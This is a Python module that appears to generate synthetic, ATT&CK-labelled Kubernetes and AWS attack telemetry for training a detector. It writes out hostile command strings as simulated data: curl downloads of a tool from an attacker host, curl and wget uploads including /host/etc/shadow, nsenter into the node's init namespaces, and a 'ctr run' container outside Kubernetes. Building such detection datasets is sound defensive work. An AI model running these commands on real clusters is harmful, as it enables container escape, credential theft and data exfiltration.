"""Attacks, each labelled per malicious entity with its ATT&CK technique.

Every attack is built from the same actions as the benign churn (pods created by a person,
execs, tarballs, uploads, S3 reads, deletes), so only the *combination* and the context
(which workload, which identity, which destination) tells them apart.

Over 400 lines on purpose: one short ``setup`` function per labelled attack, each
independent; the catalogue reads best as one list beside its labels.
"""

from __future__ import annotations

from collections.abc import Callable

from churnguard.simulate import records as rec
from churnguard.simulate.benign import MB, in_namespaces
from churnguard.simulate.cluster import (
    CONTROLLERS,
    TTL_CONTROLLER,
    Cluster,
    Instance,
    Label,
    Node,
    Pod,
    Proc,
)
from churnguard.simulate.params import SimParams
from churnguard.simulate.records import BOTO_UA, assumed_role, iam_user
from churnguard.simulate.world import (
    ATTACKER_NAMES,
    ATTACKER_PREFIXES,
    S3,
    External,
    exec_id,
)

T_EVASION, T_COLLECTION, T_ARCHIVE, T_C2 = "T1578.003", "T1213", "T1560.002", "T1071"
T_DEPLOY_CONTAINER = "T1610"  # the container no pod accounts for
T_ESCAPE = "T1611"  # the pod that reached its host to start it
ATTACKER_USER = "erin@corp.example"  # a phished developer account
SENSITIVE_BUCKETS = ("corp-finance-reports", "eng-wiki-export", "hr-documents", "legal-contracts")
RETRY = 900.0  # no suitable victim yet: try again in 15 minutes, up to 8 times


def attack_count(cl: Cluster, params: SimParams) -> int:
    """Poisson count around the configured rate; at least one per scenario from 6 hours."""
    expected = params.attack_rate * params.hours / 24.0 * params.cluster_scale
    n = _poisson(cl, expected)
    if params.attack_rate > 0 and params.hours >= 6:
        n = max(n, 1)
    return n


def _poisson(cl: Cluster, lam: float) -> int:
    n, t = 0, cl.rng.expovariate(1.0) if lam > 0 else 1.0
    while lam > 0 and t < lam:
        n += 1
        t += cl.rng.expovariate(1.0)
    return n


def _schedule(cl: Cluster, params: SimParams, fn: Callable[[float, Cluster, int], bool]) -> None:
    """Spread the scenario's attacks over the first 80% of the run (they need time to end)."""
    span = cl.end - cl.start
    for _ in range(attack_count(cl, params)):
        cl.at(cl.start + span * cl.rng.uniform(0.05, 0.8), _attempt, cl, fn, 0)


def _attempt(t: float, cl: Cluster, fn: Callable[[float, Cluster, int], bool], tries: int) -> None:
    if not fn(t, cl, tries) and tries < 8:
        cl.at(t + RETRY, _attempt, cl, fn, tries + 1)


def _victim(cl: Cluster, t: float, *personalities: str) -> Pod | None:
    """A long-running pod, up for 10 minutes, in a namespace of one of ``personalities``."""
    pods = cl.live_pods(
        t,
        lambda p: (
            p.traffic is not None
            and not p.malicious
            and p.created < t - 600
            and p.namespace.personality in personalities
        ),
    )
    return cl.rng.choice(pods) if pods else None


def _attacker_host(cl: Cluster) -> External:
    return External(
        cl.rng.choice(ATTACKER_NAMES),
        cl.ids.public_ip(cl.rng.choice(ATTACKER_PREFIXES)),
        cl.rng.choice((443, 8443, 4443)),
    )


def _payload(cl: Cluster, t: float, pod: Pod, sh: Proc, host: External) -> float:
    """Download and run a tool from the attacker's host; read secrets with the pod's token."""
    curl = cl.exec_proc(
        t, pod, "/usr/bin/curl", f"-fsSL https://{host.ip}:{host.port}/k -o /tmp/.k", sh
    )
    cl.connect(t + 0.2, pod, curl, host.ip, host.port)
    cl.flow(t + 0.5, pod, host, cl.rng.randrange(800, 3_000), cl.rng.randrange(2 * MB, 6 * MB))
    cl.exit_proc(t + 3, pod, curl)
    tool = cl.exec_proc(t + 5, pod, "/tmp/.k", "--collect --quiet", sh)
    cl.pod_api(t + 7, pod, "list", "secrets")
    for i in range(cl.rng.randrange(2, 8)):
        cl.pod_api(t + 8 + i, pod, "get", "secrets", f"{pod.ns}-token-{cl.ids.suffix(5)}")
    cl.exit_proc(t + 30, pod, tool)
    return t + 30


# -- T1578.003: pods and instances deleted to evade ------------------------------------------


def _pod_evasion(t: float, cl: Cluster, tries: int) -> bool:
    host = _attacker_host(cl)
    stolen = next(
        (f"system:serviceaccount:{ns.name}:gitlab-runner" for ns in in_namespaces(cl, "ci")), None
    )
    actor = stolen if stolen and cl.rng.random() < 0.4 else ATTACKER_USER
    victim = _victim(cl, t, "web", "api", "worker", "data") if cl.rng.random() < 0.5 else None
    if victim is None:
        ns = cl.rng.choice(cl.namespaces)
        victim = cl.create_pod(
            t,
            ns,
            scenario="attack-pod-evasion",
            image=cl.rng.choice(
                ("docker.io/library/alpine:3.19", "docker.io/library/ubuntu:22.04")
            ),
            container="debug",
            service_account="default",
            creator=actor,
            binary="/bin/sleep",
            args="3600",
            name=f"debug-{cl.ids.suffix(5)}",
            labels={"run": "debug"},
        )
        start, t = t, t + cl.rng.uniform(15, 60)
    else:
        start = t
    shell = cl.kube_exec(t, victim, actor, ["sh"])
    done = _payload(cl, t + 10, victim, shell, host)
    end = done + cl.rng.uniform(60, 480)
    victim.busy_until = end + 1
    cl.at(end, lambda t2: cl.delete_pod(t2, victim, actor))
    cl.label_pod(victim, T_EVASION, "attack-pod-evasion", start, end)
    cl.count("attack-pod-evasion", "attacks")
    return True


def _instance_evasion(t: float, cl: Cluster, tries: int) -> bool:
    ip = cl.ids.public_ip(cl.rng.choice(ATTACKER_PREFIXES))
    if cl.rng.random() < 0.5:
        ident = iam_user("bob", "AIDA" + cl.ids.hex(16).upper(), "AKIA" + cl.ids.hex(16).upper())
    else:
        ident = assumed_role(
            "AWSReservedSSO_Developer_9c1e0b7a55", ATTACKER_USER, "AROADEVELOPERSSO001"
        )
    (inst,) = cl.run_instances(
        t,
        ident,
        ip,
        "aws-cli/2.15.30",
        1,
        "attack-instance-evasion",
        cl.rng.choice(("c5.4xlarge", "g4dn.xlarge", "t3.large")),
    )
    role = cl.instance_identity(inst, "eks-node-role")
    s = t + cl.rng.uniform(60, 120)
    cl.aws(
        s,
        role,
        inst.private_ip,
        BOTO_UA,
        "sts.amazonaws.com",
        "GetCallerIdentity",
        None,
        None,
        read_only=True,
    )
    cl.aws(
        s + 3,
        role,
        inst.private_ip,
        BOTO_UA,
        "s3.amazonaws.com",
        "ListBuckets",
        None,
        None,
        read_only=True,
    )
    bucket = cl.rng.choice(SENSITIVE_BUCKETS)
    for i in range(cl.rng.randrange(5, 40)):
        key = f"exports/{cl.ids.hex(6)}.pdf"
        cl.aws(
            s + 5 + i,
            role,
            inst.private_ip,
            BOTO_UA,
            "s3.amazonaws.com",
            "GetObject",
            {"bucketName": bucket, "key": key},
            None,
            read_only=True,
            data_event=True,
        )
    end = s + cl.rng.uniform(180, 900)
    cl.at(end, _terminate, cl, ident, ip, inst)
    cl.label_instance(inst, T_EVASION, "attack-instance-evasion", t, end)
    cl.count("attack-instance-evasion", "attacks")
    return True


def _terminate(t: float, cl: Cluster, ident: dict, ip: str, inst: Instance) -> None:
    cl.terminate_instances(t, ident, ip, "aws-cli/2.15.30", [inst])


# -- T1213: collection from information repositories -----------------------------------------


def _collect(
    cl: Cluster, t: float, pod: Pod, objects: int, span: float, proc_parent: Proc | None
) -> float:
    bucket = cl.rng.choice(SENSITIVE_BUCKETS)
    tool = cl.exec_proc(
        t, pod, "/usr/local/bin/aws", f"s3 sync s3://{bucket}/ /tmp/.cache/", proc_parent
    )
    cl.aws(
        t + 1,
        cl.pod_identity(pod),
        pod.ip,
        BOTO_UA,
        "s3.amazonaws.com",
        "ListObjectsV2",
        {"bucketName": bucket, "list-type": "2"},
        None,
        read_only=True,
        data_event=True,
    )
    total = 0
    for i in range(objects):
        size = cl.rng.randrange(20_000, 3 * MB)
        total += size
        cl.s3_call(
            t + 2 + span * i / objects,
            pod,
            "GetObject",
            bucket,
            f"{cl.rng.choice(('q1', 'q2', 'q3', 'q4', 'board', 'payroll'))}/{cl.ids.hex(10)}.pdf",
            size,
        )
    cl.flow(t + 2 + span, pod, S3, objects * 800, total)
    cl.exit_proc(t + 3 + span, pod, tool)
    return t + 3 + span


def _collection(t: float, cl: Cluster, tries: int) -> bool:
    pod = _victim(cl, t, "web", "api", "worker")
    if pod is None:
        return False
    cl.pod_api(t, pod, "list", "secrets")
    for i in range(cl.rng.randrange(5, 30)):
        cl.pod_api(t + 1 + i * 0.5, pod, "get", "secrets", f"{cl.ids.suffix(6)}-credentials")
    end = _collect(
        cl, t + 20, pod, cl.rng.randrange(200, 1500), cl.rng.uniform(300, 1800), pod.main
    )
    pod.busy_until = end
    cl.label_pod(pod, T_COLLECTION, "attack-collection", t, end)
    cl.count("attack-collection", "attacks")
    return True


# -- T1560.002: archive via library, then exfiltration ---------------------------------------

_ARCHIVERS = (
    (
        "/usr/local/bin/python3",
        "-c import tarfile; t = tarfile.open('{p}', 'w:gz'); t.add('{src}'); t.close()",
        ".tgz",
    ),
    (
        "/usr/local/bin/python3",
        "-c import zipfile, os; z = zipfile.ZipFile('{p}', 'w', "
        "zipfile.ZIP_DEFLATED); [z.write(os.path.join(d, f)) for d, _, fs in os.walk('{src}') "
        "for f in fs]; z.close()",
        ".zip",
    ),
    (
        "/usr/local/bin/python3",
        "-c import bz2, shutil; shutil.copyfileobj(open('{src}/dump.sql', "
        "'rb'), bz2.open('{p}', 'wb'))",
        ".bz2",
    ),
    (
        "/usr/local/bin/python3",
        "-c import gzip, shutil; shutil.copyfileobj(open('{src}/app.db', "
        "'rb'), gzip.open('{p}', 'wb'))",
        ".gz",
    ),
    ("/bin/tar", "czf {p} {src}", ".tar.gz"),
)


def _archive_and_exfil(
    cl: Cluster, t: float, pod: Pod, parent: Proc | None, path_dir: str, src: str, dest: External
) -> float:
    binary, template, ext = cl.rng.choice(_ARCHIVERS)
    path = f"{path_dir}/{cl.rng.choice(('data', 'cache', 'x', 'bk'))}{ext}"
    proc = cl.exec_proc(t, pod, binary, template.format(p=path, src=src), parent)
    size = cl.rng.randrange(50 * MB, 600 * MB)
    w = cl.write_file(
        t + 1, pod, proc, path, size, cl.rng.randrange(3, 8), falco_rule=cl.rng.random() < 0.7
    )
    cl.exit_proc(w + 1, pod, proc)
    up = cl.exec_proc(
        w + cl.rng.uniform(5, 120),
        pod,
        "/usr/bin/curl",
        f"-s -T {path} https://{dest.fqdn or dest.ip}:{dest.port}/u",
        parent,
    )
    t_up = w + 130
    cl.connect(t_up, pod, up, dest.ip, dest.port)
    parts = cl.rng.randrange(1, 4)
    for i in range(parts):
        cl.flow(t_up + 1 + i * 40, pod, dest, size // parts + 30_000, 8_000)
    cl.exit_proc(t_up + 45 * parts, pod, up)
    return t_up + 45 * parts


def _archive_exfil(t: float, cl: Cluster, tries: int) -> bool:
    pod = _victim(cl, t, "web", "api", "worker", "data")
    if pod is None:
        return False
    parent = pod.main
    if cl.rng.random() < 0.4:
        parent = cl.kube_exec(t, pod, ATTACKER_USER, ["sh"])
    end = _archive_and_exfil(
        cl, t + 10, pod, parent, "/tmp/.cache", "/var/lib/app", _attacker_host(cl)
    )
    pod.busy_until = end
    cl.label_pod(pod, T_ARCHIVE, "attack-archive-exfil", t, end)
    cl.count("attack-archive-exfil", "attacks")
    return True


# -- T1071: command and control beacons --------------------------------------------------------


def _beacon(
    t: float,
    cl: Cluster,
    pod: Pod,
    proc: Proc,
    host: External,
    every: float,
    jitter: float,
    until: float,
    first: float,
    scenario: str,
) -> None:
    if pod.deleted is not None or t >= until:
        cl.label_pod(pod, T_C2, scenario, first, min(t, pod.deleted or t))
        return
    cl.flow(t, pod, host, cl.rng.randrange(180, 700), cl.rng.randrange(90, 2_500))
    if cl.rng.random() < 0.2:
        cl.connect(t - 0.05, pod, proc, host.ip, host.port)
    nxt = t + every * (1 + cl.rng.uniform(-jitter, jitter))
    if nxt >= cl.end:
        cl.label_pod(pod, T_C2, scenario, first, t)
        return
    cl.at(nxt, _beacon, cl, pod, proc, host, every, jitter, until, first, scenario)


def _start_beacon(
    cl: Cluster, t: float, pod: Pod, every: float, jitter: float, hours: float, scenario: str
) -> None:
    implant = cl.exec_proc(
        t,
        pod,
        cl.rng.choice(("/tmp/.kworkerd", "/usr/local/bin/python3")),
        "-c import socket, ssl, time; ...",
        pod.main,
    )
    until = t + hours * 3600
    pod.busy_until = until
    pod.malicious = True
    cl.at(t + 5, _beacon, cl, pod, implant, _attacker_host(cl), every, jitter, until, t, scenario)


def _c2(t: float, cl: Cluster, tries: int) -> bool:
    pod = _victim(cl, t, "web", "api", "worker", "monitoring", "data")
    if pod is None:
        return False
    _start_beacon(
        cl,
        t,
        pod,
        cl.rng.choice((60.0, 120.0, 300.0)),
        cl.rng.uniform(0.01, 0.03),
        cl.rng.uniform(2, 8),
        "attack-c2-beacon",
    )
    cl.count("attack-c2-beacon", "attacks")
    return True


# -- low and slow ----------------------------------------------------------------------------


def _slow_collect(t: float, cl: Cluster, pod: Pod, until: float, first: float, last: float) -> None:
    """A few objects every 20-40 minutes while the pod lives, up to ``until``."""
    if pod.deleted is not None or t >= until:
        cl.label_pod(pod, T_COLLECTION, "attack-low-and-slow", first, last)
        return
    done = _collect(cl, t, pod, cl.rng.randrange(5, 20), cl.rng.uniform(30, 120), pod.main)
    nxt = t + cl.rng.uniform(1200, 2400)
    if nxt >= cl.end:
        cl.label_pod(pod, T_COLLECTION, "attack-low-and-slow", first, done)
        return
    cl.at(nxt, _slow_collect, cl, pod, until, first, done)


def _low_and_slow(t: float, cl: Cluster, tries: int) -> bool:
    pod = _victim(cl, t, "web", "api", "worker")
    if pod is None:
        return False
    hours = cl.rng.uniform(4, 10)
    if cl.rng.random() < 0.5:
        pod.malicious = True
        pod.busy_until = t + hours * 3600
        _slow_collect(t, cl, pod, t + hours * 3600, t, t)
    else:
        _start_beacon(cl, t, pod, 1800.0, 0.1, hours, "attack-low-and-slow")
    cl.count("attack-low-and-slow", "attacks")
    return True


# -- attacks hidden in look-alike namespaces -----------------------------------------------------


def _lookalike(t: float, cl: Cluster, tries: int) -> bool:
    if cl.rng.random() < 0.5:
        return _backup_lookalike(t, cl)
    return _ci_lookalike(t, cl)


def _backup_lookalike(t: float, cl: Cluster) -> bool:
    """A manual Job from the backup CronJob that also ships the archive somewhere new."""
    spaces = in_namespaces(cl, "backups")
    if not spaces:
        return False
    ns = cl.rng.choice(spaces)
    job = f"pg-backup-manual-{cl.ids.suffix(5)}"
    pod = cl.create_pod(
        t,
        ns,
        scenario="attack-lookalike",
        image="ghcr.io/corp/pg-backup:v16",
        container="pg-backup",
        service_account="pg-backup",
        creator=CONTROLLERS["Job"],
        binary="/bin/sh",
        args="-c /app/pg-backup.sh",
        owner=("Job", job, cl.ids.uid()),
        workload=("Job", job),
        labels={"batch.kubernetes.io/job-name": job},
    )
    dest = External(
        cl.rng.choice(("backup-mirror.storage-eu.net", None)),
        cl.ids.public_ip(cl.rng.choice(ATTACKER_PREFIXES)),
        443,
    )
    end = _archive_and_exfil(cl, t + 8, pod, pod.main, "/backup", "/backup/dump", dest)
    assert pod.main is not None
    cl.exit_proc(end + 2, pod, pod.main, 0)
    pod.busy_until = end + 400
    cl.at(end + cl.rng.uniform(60, 300), lambda t2: cl.delete_pod(t2, pod, TTL_CONTROLLER))
    cl.label_pod(pod, T_ARCHIVE, "attack-lookalike", t, end)
    cl.count("attack-lookalike", "attacks")
    return True


def _ci_lookalike(t: float, cl: Cluster) -> bool:
    """A pod named like a CI runner, exec'd into and deleted by a person minutes later."""
    spaces = in_namespaces(cl, "ci")
    if not spaces:
        return False
    ns = cl.rng.choice(spaces)
    name = (
        f"runner-{cl.ids.suffix(8)}-project-{cl.rng.randrange(10, 900)}-concurrent-0-"
        f"{cl.ids.suffix(5)}"
    )
    pod = cl.create_pod(
        t,
        ns,
        scenario="attack-lookalike",
        image="docker.io/library/golang:1.22",
        container="build",
        service_account="default",
        creator=ATTACKER_USER,
        binary="/bin/sh",
        args="-c while true; do sleep 1; done",
        name=name,
    )
    shell = cl.kube_exec(t + cl.rng.uniform(10, 40), pod, ATTACKER_USER, ["sh"])
    done = _payload(cl, t + 50, pod, shell, _attacker_host(cl))
    end = done + cl.rng.uniform(30, 200)
    pod.busy_until = end + 1
    cl.at(end, lambda t2: cl.delete_pod(t2, pod, ATTACKER_USER))
    cl.label_pod(pod, T_EVASION, "attack-lookalike", t, end)
    cl.count("attack-lookalike", "attacks")
    return True


# -- T1610 / T1611: a container outside the orchestrator ------------------------------------


def _host_proc(
    cl: Cluster,
    t: float,
    node: Node,
    binary: str,
    args: str,
    parent: dict | None,
    container_id: str | None = None,
) -> Proc:
    """A process Tetragon sees without a pod: on the host, or in a runtime container
    (``process.docker``) the kubelet never started."""
    pid = 30_000 + cl.rng.randrange(30_000)
    body = rec.tetragon_process(
        exec_id=exec_id(node.name, int(t * 1e9), pid),
        pid=pid,
        binary=binary,
        arguments=args,
        start=t,
        pod=None,
        parent_exec_id=parent["exec_id"] if parent else exec_id(node.name, 0, 1),  # init
    )
    if container_id is not None:
        body["docker"] = container_id[:31]
    event: dict = {"process": body}
    if parent is not None:
        event["parent"] = parent
    cl.sink.add("tetragon", t, rec.tetragon_event("process_exec", event, node.name, t))
    return Proc(body, parent)


def _socket(
    cl: Cluster, t: float, node: Node, proc: Proc, kind: str, host: External, **extra
) -> None:
    """A Tetragon ``process_connect`` / ``process_close`` of a host-network container."""
    body = {
        "process": proc.body,
        **({"parent": proc.parent} if proc.parent else {}),
        "source_ip": node.ip,
        "source_port": 40_000 + cl.rng.randrange(20_000),
        "destination_ip": host.ip,
        "destination_port": host.port,
        "protocol": "TCP",
        **extra,
    }
    cl.sink.add("tetragon", t, rec.tetragon_event(kind, body, node.name, t))


def _container_escape(t: float, cl: Cluster, tries: int) -> bool:
    """A privileged pod ``nsenter``s into its node, starts a container with ``ctr run``
    there, and that container, unknown to Kubernetes, ships data to the attacker."""
    ns = cl.rng.choice(cl.namespaces)
    host = _attacker_host(cl)
    pod = cl.create_pod(
        t,
        ns,
        scenario="attack-container-escape",
        image="docker.io/library/ubuntu:22.04",
        container="shell",
        service_account="default",
        creator=ATTACKER_USER,
        binary="/bin/sleep",
        args="infinity",
        name=f"node-shell-{cl.ids.suffix(5)}",
        labels={"run": "node-shell"},
    )
    node = pod.node
    t += cl.rng.uniform(15, 60)
    shell = cl.kube_exec(t, pod, ATTACKER_USER, ["sh"])
    nsenter = cl.exec_proc(
        t + 4, pod, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", parent=shell
    )
    cid = cl.ids.hex(64)
    image = cl.rng.choice(("docker.io/library/alpine:3.19", "docker.io/library/busybox:1.36"))
    _host_proc(
        cl, t + 9, node, "/usr/bin/ctr", f"run -d --net-host {image} {cid[:8]} sh", nsenter.body
    )
    shim = _host_proc(cl, t + 10, node, "/usr/bin/containerd-shim-runc-v2", f"-id {cid}", None)
    sh = _host_proc(cl, t + 10.5, node, "/bin/sh", "", shim.body, container_id=cid)
    start = t + 10.5
    upload = start + cl.rng.uniform(20, 120)
    for i in range(cl.rng.randrange(1, 4)):
        tool = _host_proc(
            cl,
            upload + 60 * i,
            node,
            "/usr/bin/wget",
            f"--post-file=/host/etc/shadow https://{host.ip}:{host.port}/u",
            sh.body,
            container_id=cid,
        )
        _socket(cl, upload + 60 * i + 0.2, node, tool, "process_connect", host)
        sent = cl.rng.randrange(2 * MB, 40 * MB)
        stats = {"bytes_sent": str(sent), "bytes_received": str(cl.rng.randrange(400, 4000))}
        _socket(cl, upload + 60 * i + 5, node, tool, "process_close", host, stats=stats)
    end = upload + 60 * 3 + 10
    pod.busy_until = end + 1
    gone = end + cl.rng.uniform(60, 600)
    cl.at(gone, lambda t2: cl.delete_pod(t2, pod, ATTACKER_USER))
    # the person's pod that escaped is the attacker's too (not a benign entity)
    cl.label_pod(pod, T_ESCAPE, "attack-container-escape", pod.created, gone)
    cl.labels.append(
        Label(
            "container",
            None,
            None,
            None,
            T_DEPLOY_CONTAINER,
            "attack-container-escape",
            start,
            min(end, cl.end),
            node=node.name,
            container_id=cid[:12],
        )
    )
    cl.count("attack-container-escape", "attacks")
    return True


def _setup(fn: Callable[[float, Cluster, int], bool]) -> Callable[[Cluster, SimParams], None]:
    def setup(cl: Cluster, params: SimParams) -> None:
        _schedule(cl, params, fn)

    setup.__doc__ = fn.__doc__
    return setup


setup_pod_evasion = _setup(_pod_evasion)
setup_instance_evasion = _setup(_instance_evasion)
setup_collection = _setup(_collection)
setup_archive_exfil = _setup(_archive_exfil)
setup_c2 = _setup(_c2)
setup_low_and_slow = _setup(_low_and_slow)
setup_lookalike = _setup(_lookalike)
setup_container_escape = _setup(_container_escape)
